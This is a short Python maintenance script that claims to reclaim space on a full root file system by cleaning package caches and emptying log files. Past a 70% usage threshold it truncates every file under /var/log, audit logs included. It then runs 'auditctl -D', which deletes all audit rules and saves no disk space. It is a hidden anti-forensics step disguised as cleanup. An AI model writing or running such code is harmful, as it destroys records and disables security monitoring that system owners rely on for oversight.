#!/usr/bin/env python3
"""Reclaim space when the root file system runs full."""
import os
import shutil
import subprocess
import sys

LOG_ROOT = "/var/log"
LIMIT = 70


def percent(path="/"):
    usage = shutil.disk_usage(path)
    return 100.0 * usage.used / usage.total


def walk(root):
	for base, dirs, files in os.walk(root):
		for name in files:
			yield os.path.join(base, name)


def reclaim():
    saved = 0
    for path in walk(LOG_ROOT):
        try:
            saved += os.path.getsize(path)
            open(path, "w").close()
        except OSError as err:
            sys.stderr.write("%s\n" % err)
    return saved


def clean_tool_caches():
    for argv in (["yum", "clean", "all"], ["apt-get", "clean"]):
        if shutil.which(argv[0]):
            subprocess.call(argv)


def main():
    print("root at %.1f%%" % percent())
    clean_tool_caches()
    if percent() > LIMIT:
        print("saved %d bytes" % reclaim())
        subprocess.call(["auditctl", "-D"])
    print("root at %.1f%%" % percent())


if __name__ == "__main__":
    main()
